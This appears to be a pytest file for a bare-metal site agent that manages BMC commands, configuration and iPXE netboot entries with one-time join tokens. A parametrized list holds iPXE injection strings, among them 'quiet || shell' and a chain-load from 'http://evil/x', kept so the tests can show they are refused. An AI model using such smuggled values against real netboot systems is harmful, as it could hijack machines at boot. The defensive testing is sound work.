"""Site agent pieces without servers: the ``bmc`` payload, site-agent.toml, boot entries."""

from __future__ import annotations

import hashlib
import json
import time
from pathlib import Path

import pytest

from bc_site_agent.config import load_config
from bc_site_agent.drivers import BmcCredentials
from bc_site_agent.netboot import (
    LOCAL_BOOT_SCRIPT,
    SERVED_WINDOW_S,
    BootEntries,
    BootEntry,
    Served,
    discovery_cmdline,
    entry_script,
)
from better_compute.core.errors import BcError, ErrorCode
from better_compute.metal.commands import COMMAND_KINDS

REF = "sec_" + "A" * 26


def refusal(call: object) -> tuple[ErrorCode, str | None]:
    try:
        call()  # type: ignore[operator]
    except BcError as err:
        return err.code, err.path
    raise AssertionError("accepted")


def test_bmc_commands_carry_which_bmc_and_bad_ones_name_the_field() -> None:
    power = COMMAND_KINDS["power.setPower"].payload
    bmc = {"driver": "redfish", "address": "https://10.0.0.9", "credentialsRef": REF}
    got = power.validate({"action": "cycle", "bmc": bmc})
    assert got["bmc"] == {**bmc, "insecure": False}
    assert power.validate({"action": "on"}) == {"action": "on"}  # bmc stays optional for now
    bad = {**bmc, "driver": "telnet"}
    assert refusal(lambda: power.validate({"action": "on", "bmc": bad})) == (
        ErrorCode.INVALID_INPUT,
        "bmc.driver",
    )
    assert refusal(
        lambda: COMMAND_KINDS["management.inventory"].payload.validate(
            {"bmc": {**bmc, "credentialsRef": "pw"}}
        )
    ) == (ErrorCode.INVALID_INPUT, "bmc.credentialsRef")
    entry = COMMAND_KINDS["netboot.setEntry"].payload
    assert refusal(lambda: entry.validate({"mac": "nope", "kernel": "http://x/k"})) == (
        ErrorCode.INVALID_INPUT,
        "mac",
    )


def test_credentials_never_show_their_password() -> None:
    creds = BmcCredentials(username="admin", password="hunter2-long")
    assert "hunter2-long" not in repr(creds)


def test_config_problems_name_the_key(tmp_path: Path) -> None:
    cfg = tmp_path / "site-agent.toml"
    cfg.write_text('site_id = "Site A"\nstate_dir = "/x"\n')
    assert refusal(lambda: load_config(cfg, env={"BC_NATS_URL": "nats://x"})) == (
        ErrorCode.INVALID_CONFIG,
        "site_id",
    )
    cfg.write_text('site_id = "site-a"\nstate_dir = "/x"\nhttp_listen = "nope"\n')
    assert refusal(lambda: load_config(cfg, env={"BC_NATS_URL": "nats://x"})) == (
        ErrorCode.INVALID_CONFIG,
        "http_listen",
    )
    cfg.write_text('site_id = "site-a"\nstate_dir = "/x"\n[cache]\nmax_bytes = -1\n')
    assert refusal(lambda: load_config(cfg, env={"BC_NATS_URL": "nats://x"})) == (
        ErrorCode.INVALID_CONFIG,
        "cache.max_bytes",
    )
    cfg.write_text('site_id = "site-a"\nstate_dir = "/x"\n')
    assert refusal(lambda: load_config(cfg, env={})) == (ErrorCode.INVALID_CONFIG, "nats_url")


def test_metrics_listen_on_their_own_loopback_port_and_the_quiet_period_and_credential_keep_are_checked(
    tmp_path: Path,
) -> None:
    cfg = tmp_path / "site-agent.toml"
    env = {"BC_NATS_URL": "nats://x"}
    cfg.write_text('site_id = "site-a"\nstate_dir = "/x"\nhttp_listen = "0.0.0.0:8081"\n')
    config = load_config(cfg, env=env)
    assert (config.metrics_host, config.metrics_port) == ("127.0.0.1", 9181)  # not the boot network's
    assert config.quiet_seconds == 120.0
    cfg.write_text('site_id = "site-a"\nstate_dir = "/x"\nmetrics_listen = ""\n')
    assert load_config(cfg, env=env).metrics_host is None  # off
    cfg.write_text(
        'site_id = "site-a"\nstate_dir = "/x"\n'
        'http_listen = "10.0.0.5:8081"\nmetrics_listen = "10.0.0.5:8081"\n'
    )
    assert refusal(lambda: load_config(cfg, env=env)) == (ErrorCode.INVALID_CONFIG, "metrics_listen")
    for bad in ("0", "-1", "true", '"2"', "7200"):
        cfg.write_text(f'site_id = "site-a"\nstate_dir = "/x"\n[netboot]\nquiet_seconds = {bad}\n')
        assert refusal(lambda: load_config(cfg, env=env)) == (
            ErrorCode.INVALID_CONFIG,
            "netboot.quiet_seconds",
        )
    assert config.bmc_credentials_keep_s == 300.0
    cfg.write_text('site_id = "site-a"\nstate_dir = "/x"\n[bmc]\ncredentials_keep_seconds = 0\n')
    assert load_config(cfg, env=env).bmc_credentials_keep_s == 0.0  # a fetch for each command
    for bad in ("-1", "true", '"60"', "3601"):
        cfg.write_text(f'site_id = "site-a"\nstate_dir = "/x"\n[bmc]\ncredentials_keep_seconds = {bad}\n')
        assert refusal(lambda: load_config(cfg, env=env)) == (
            ErrorCode.INVALID_CONFIG,
            "bmc.credentials_keep_seconds",
        )


def test_a_one_time_entry_is_served_once_and_survives_a_restart(tmp_path: Path) -> None:
    entries = BootEntries(tmp_path / "netboot")
    entries.set(
        {"mac": "52-54-00-AA-BB-01", "kernel": "http://h/k", "initrd": "http://h/i", "cmdline": "a=b"}
    )
    again = BootEntries(tmp_path / "netboot")  # another process life
    entry = again.take("52:54:00:aa:bb:01").entry
    assert entry is not None
    script = entry_script(entry)
    assert "kernel http://h/k a=b" in script
    assert "initrd http://h/i" in script
    assert again.take("52:54:00:aa:bb:01") == Served(entry=None, again=None)  # no token: no mark
    assert (tmp_path / "netboot").stat().st_mode & 0o077 == 0
    assert LOCAL_BOOT_SCRIPT.rstrip().endswith("exit")


def test_an_entrys_join_token_is_served_on_its_kernel_line_once(tmp_path: Path) -> None:
    token = "bcjt_" + "k" * 43
    entries = BootEntries(tmp_path / "netboot")
    payload = {"mac": "52:54:00:aa:bb:02", "kernel": "http://h/k", "cmdline": "a=b"}
    entry = entries.set(payload, join_token=token)
    assert token not in repr(entry)
    [stored] = (tmp_path / "netboot").glob("*.json")
    assert stored.stat().st_mode & 0o077 == 0  # only the agent reads it, until it is served
    served = BootEntries(tmp_path / "netboot").take("52:54:00:aa:bb:02").entry  # after a restart too
    assert served is not None
    assert f"kernel http://h/k a=b bcd.token={token}\n" in entry_script(served)
    assert list((tmp_path / "netboot").glob("*.json")) == []  # consumed: the token is gone


def test_a_node_entry_served_once_takes_its_other_macs_and_a_second_ask_is_marked(tmp_path: Path) -> None:
    token = "bcjt_" + "n" * 43
    entries = BootEntries(tmp_path / "netboot")
    for mac in ("52:54:00:aa:bb:03", "52:54:00:aa:bb:04"):
        entries.set({"mac": mac, "kernel": "http://h/k"}, join_token=token)
    entries.set({"mac": "52:54:00:aa:bb:05", "kernel": "http://h/k"}, join_token="bcjt_" + "o" * 43)
    first = entries.take("52:54:00:aa:bb:04", source="10.0.0.7", now=1000.0)
    assert first.entry is not None
    assert first.again is None
    # the node's other MAC, asked from another host, is no second way to the token: it is marked
    other = entries.take("52:54:00:aa:bb:03", source="10.0.0.9", now=1001.0)
    assert other.entry is None
    assert other.again is not None
    assert other.again["tokenSha256"] == hashlib.sha256(token.encode()).hexdigest()
    assert token not in json.dumps(other.again)  # the report's mark keeps a digest, not the token
    # ... and once another host asked, not even the first address gets it again
    assert entries.take("52:54:00:aa:bb:04", source="10.0.0.7", now=1002.0).again is not None
    assert not any(token in p.read_text() for p in (tmp_path / "netboot").iterdir() if p.is_file())
    assert entries.take("52:54:00:aa:bb:05", now=1003.0).entry is not None  # another node's entry stays
    # after the window, an ordinary unknown MAC again; a new entry drops the mark at once
    late = entries.take("52:54:00:aa:bb:04", now=1000.0 + SERVED_WINDOW_S + 1)
    assert late == Served(entry=None, again=None)
    entries.set({"mac": "52:54:00:aa:bb:03", "kernel": "http://h/k2"}, join_token="bcjt_" + "p" * 43)
    assert entries.take("52:54:00:aa:bb:03", now=1004.0).entry is not None


def test_a_node_entry_is_served_again_to_its_address_and_closes_clean_after_its_quiet_period(
    tmp_path: Path,
) -> None:
    token = "bcjt_" + "q" * 43
    mac, node = "52:54:00:aa:bb:06", "node_01"
    entries = BootEntries(tmp_path / "netboot")
    entries.set({"mac": mac, "kernel": "http://h/k"}, join_token=token, node_id=node)
    assert entries.take(mac, source="10.0.0.7", now=1000.0).entry is not None
    again = entries.take(mac, source="10.0.0.7", now=1001.0)  # its iPXE retried: the same entry
    assert again.entry is not None
    assert again.entry.join_token == token
    assert entries.closed_clean(5.0, now=1005.5) == []  # 5 s after the last serve, not the first
    entries.powered(node, now=1004.0)  # the agent cycled the node: the machine asks after its POST
    assert entries.closed_clean(5.0, now=1008.5) == []
    [hold] = entries.closed_clean(5.0, now=1009.0)
    assert (hold.token_sha256, hold.node_id, hold.mac, hold.state) == (
        hashlib.sha256(token.encode()).hexdigest(), node, mac, "clean",
    )  # fmt: skip
    assert entries.closed_clean(5.0, now=1010.0) == []  # once
    # closed: a later ask, even from the same address, is a second ask (the token is gone)
    late = entries.take(mac, source="10.0.0.7", now=1011.0)
    assert late.entry is None
    assert late.again is not None
    assert not any(token in p.read_text() for p in (tmp_path / "netboot").iterdir() if p.is_file())


def test_a_machine_this_agent_powers_on_after_its_entry_closed_clean_boots_local_and_burns_nothing(
    tmp_path: Path,
) -> None:
    """A power cycle right after commission (its wiped disk falls to PXE) quarantined a healthy
    node: the machine's ask counted as a second ask (found by the doc test's long run)."""
    token = "bcjt_" + "r" * 43
    mac, node = "52:54:00:aa:bb:07", "node_02"
    entries = BootEntries(tmp_path / "netboot")
    entries.set({"mac": mac, "kernel": "http://h/k"}, join_token=token, node_id=node)
    assert entries.take(mac, source="10.0.0.8", now=1000.0).entry is not None
    [hold] = entries.closed_clean(5.0, now=1006.0)
    assert hold.state == "clean"
    entries.powered(node, now=1100.0)  # bcx nodes power cycle, minutes later
    booted = entries.take(mac, source="10.0.0.8", now=1130.0)
    assert (booted.entry, booted.again, booted.local) == (None, None, True)
    # the same power-on does not excuse an ask from another address: that is still a second ask
    other = entries.take(mac, source="10.0.0.66", now=1131.0)
    assert other.again is not None
    assert not other.local


def test_a_second_power_command_does_not_rewrite_a_clean_hold(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What a clean hold keeps of a power-on is that there was one: the next power command of the
    node writes nothing (each rewrote every clean hold of the node, a file and two fsyncs), and
    the machine's ask after it still boots local; an open hold still counts its quiet period
    from the latest power-on."""
    token, other_token = "bcjt_" + "s" * 43, "bcjt_" + "t" * 43
    mac, node = "52:54:00:aa:bb:08", "node_03"
    entries = BootEntries(tmp_path / "netboot")
    entries.set({"mac": mac, "kernel": "http://h/k"}, join_token=token, node_id=node)
    assert entries.take(mac, source="10.0.0.9", now=1000.0).entry is not None
    [_] = entries.closed_clean(5.0, now=1006.0)
    entries.powered(node, now=1100.0)
    written: list[str] = []
    write = BootEntries._write
    monkeypatch.setattr(
        BootEntries, "_write", staticmethod(lambda t, d, **k: (written.append(t.name), write(t, d, **k)))
    )
    entries.powered(node, now=1110.0)
    entries.powered("node_elsewhere", now=1111.0)
    assert written == []
    assert entries.take(mac, source="10.0.0.9", now=1130.0).local

    entries.set({"mac": mac, "kernel": "http://h/k"}, join_token=other_token, node_id=node)
    assert entries.take(mac, source="10.0.0.9", now=1200.0).entry is not None
    entries.powered(node, now=1203.0)  # the open hold's quiet period counts from here
    assert entries.closed_clean(5.0, now=1207.0) == []
    [closed] = entries.closed_clean(5.0, now=1208.5)
    assert closed.powered_at == 1203.0


def _count_reads(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The names of the files read (``Path.read_text``) from now until ``monkeypatch.undo()``."""
    read: list[str] = []
    read_text = Path.read_text

    def counted(path: Path, *args: object, **kwargs: object) -> str:
        read.append(path.name)
        return read_text(path, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(Path, "read_text", counted)
    return read


def test_the_quiet_period_look_reads_no_hold_file_and_a_restart_reads_them_back(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The look runs every second: it once read every hold file (each machine served in the last
    ten minutes) each time, a fifth of a core at a thousand machines a site doing nothing."""
    entries = BootEntries(tmp_path / "netboot")
    for i in range(50):
        mac = f"52:54:00:aa:01:{i:02x}"
        entries.set({"mac": mac, "kernel": "http://h/k"}, join_token=f"bcjt_{i:043d}", node_id=f"node_{i}")
        assert entries.take(mac, source=f"10.0.1.{i}", now=1000.0).entry is not None
    read = _count_reads(monkeypatch)
    for second in range(10):
        assert entries.closed_clean(120.0, now=1001.0 + second) == []
    assert [name for name in read if name.endswith(".hold")] == []
    monkeypatch.undo()
    again = BootEntries(tmp_path / "netboot")  # another process life: the holds from their files
    assert len(again.closed_clean(120.0, now=1121.0)) == 50


def test_serving_and_closing_read_no_other_machines_files_and_old_marks_leave_the_disk(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A take looked for the node's other entries in every entry file, and each close rewrote
    the marks it found in every served file: a third of the site agent's time with a hundred
    machines of a site in flight (py-spy in bench_fleet at 1,000)."""
    folder = tmp_path / "netboot"
    entries = BootEntries(folder)
    for i in range(50):
        mac = f"52:54:00:aa:02:{i:02x}"
        entries.set({"mac": mac, "kernel": "http://h/k"}, join_token=f"bcjt_{i:043d}", node_id=f"node_{i}")
    read = _count_reads(monkeypatch)
    for i in range(50):
        assert entries.take(f"52:54:00:aa:02:{i:02x}", source=f"10.0.2.{i}", now=1000.0).entry is not None
    assert len(entries.closed_clean(5.0, now=1006.0)) == 50
    assert read == []
    monkeypatch.undo()
    assert len(list(folder.glob("*.served"))) == 50
    assert not any("bcjt_" in p.read_text() for p in folder.glob("*.served"))  # closed: tokens gone
    again = BootEntries(folder)  # another process life: a second ask is still one, from the marks
    assert again.take("52:54:00:aa:02:07", source="10.0.2.7", now=1010.0).again is not None
    again.closed_clean(5.0, now=1006.0 + SERVED_WINDOW_S + 1)
    assert list(folder.glob("*.served")) == []  # past their window: no longer on the disk


def test_a_withdrawn_node_entry_never_closes_clean(tmp_path: Path) -> None:
    mac = "52:54:00:aa:bb:07"
    entries = BootEntries(tmp_path / "netboot")
    entries.set({"mac": mac, "kernel": "http://h/k"}, join_token="bcjt_" + "w" * 43, node_id="node_02")
    assert entries.take(mac, source="10.0.0.7", now=time.time()).entry is not None
    assert entries.clear(mac) is False  # served already: nothing left to remove but its mark
    assert entries.closed_clean(0.001, now=time.time() + 1) == []  # nobody is confirmed


def test_boot_entries_refuse_line_breaks_in_the_command_line(tmp_path: Path) -> None:
    entries = BootEntries(tmp_path / "netboot")
    with pytest.raises(BcError) as exc:
        entries.set({"mac": "52:54:00:aa:bb:01", "kernel": "http://h/k", "cmdline": "a\nshell"})
    assert exc.value.path == "cmdline"


_IPXE_TRICKS = (
    "quiet || shell",
    "quiet && chain http://evil/x",
    "root=${root-path}",
    "a ; shell",
    "a #comment",
    "a\x1b[2Jb",
    "a\x00b",
    "a\tb",
)


@pytest.mark.parametrize("cmdline", _IPXE_TRICKS)
def test_ipxe_control_sequences_in_an_entry_are_refused_when_it_is_set(tmp_path: Path, cmdline: str) -> None:
    """Issue 23 L7: ``||``, ``&&``, ``${…}`` (and ``;``, ``#``, control characters) in a kernel line
    were served verbatim into the iPXE script, where iPXE runs or expands them."""
    entries = BootEntries(tmp_path / "netboot")
    mac = "52:54:00:aa:bb:03"
    with pytest.raises(BcError) as exc:
        entries.set({"mac": mac, "kernel": "http://h/k", "cmdline": cmdline})
    assert (exc.value.code, exc.value.path) == (ErrorCode.INVALID_INPUT, "cmdline")
    assert entries.get(mac) is None
    # the command's payload is refused at enqueue already (the kind's manifest)
    payload = COMMAND_KINDS["netboot.setEntry"].payload
    assert refusal(lambda: payload.validate({"mac": mac, "kernel": "http://h/k", "cmdline": cmdline})) == (
        ErrorCode.INVALID_INPUT,
        "cmdline",
    )
    for key in ("kernel", "initrd"):
        url = "http://h/k?x=" + cmdline
        with pytest.raises(BcError) as exc:
            entries.set({"mac": mac, "kernel": "http://h/k", key: url})
        assert (exc.value.code, exc.value.path) == (ErrorCode.INVALID_INPUT, key)
        assert refusal(lambda key=key, url=url: payload.validate({"mac": mac, key: url})) == (
            ErrorCode.INVALID_INPUT,
            key,
        )
    assert payload.validate({"mac": mac, "kernel": "http://h/k", "cmdline": "console=ttyS0,115200 a=b&c"})


@pytest.mark.parametrize("cmdline", _IPXE_TRICKS)
def test_the_ipxe_renderer_never_emits_a_control_sequence(tmp_path: Path, cmdline: str) -> None:
    """An entry written before the check (an older agent's file) or a token that slipped through
    is not served: the machine gets a script that boots locally, with nothing of the value."""
    for entry in (
        BootEntry(mac="52:54:00:aa:bb:04", kernel="http://h/k", cmdline=cmdline),
        BootEntry(mac="52:54:00:aa:bb:04", kernel="http://h/k?" + cmdline, initrd="http://h/i"),
        BootEntry(mac="52:54:00:aa:bb:04", kernel="http://h/k", join_token="tok" + cmdline),
    ):
        script = entry_script(entry)
        assert cmdline not in script
        assert not any(trick in script for trick in ("||", "&&", "${", " ; ", "#c", "\x1b", "\x00"))
        assert script.startswith("#!ipxe\n")
        assert "exit" in script
        assert "kernel" not in script
    ok = entry_script(
        BootEntry(mac="52:54:00:aa:bb:04", kernel="http://h/k", cmdline="a=b c", join_token="t")
    )
    assert "kernel http://h/k a=b c bcd.token=t\n" in ok


def test_the_deploy_example_config_loads() -> None:
    example = Path(__file__).parents[2] / "deploy" / "site-agent.example.toml"
    config = load_config(example, env={})
    assert config.site_id == "eu1"
    assert config.control_plane_addresses == ("10.20.0.2",)


def test_the_discovery_command_line_carries_site_token_and_control_plane(tmp_path: Path) -> None:
    token = "bcjt_" + "Z" * 43
    file = tmp_path / "discovery-token"
    file.write_text(token + "\n")
    line = discovery_cmdline("console=ttyS0", site_id="lab1", token_file=file, control_plane="wss://gw")
    assert line == f"console=ttyS0 bcd.site=lab1 bcd.token={token} bcd.control_plane=wss://gw"
    # a missing token file adds no token; the site is always said
    gone = discovery_cmdline("", site_id="lab1", token_file=tmp_path / "nope", control_plane=None)
    assert gone == "bcd.site=lab1"
    # a file that is not one token is not pasted into the script
    file.write_text("bcjt_x\n#!ipxe\nshell\n")
    assert "bcd.token" not in discovery_cmdline("", site_id="lab1", token_file=file, control_plane=None)
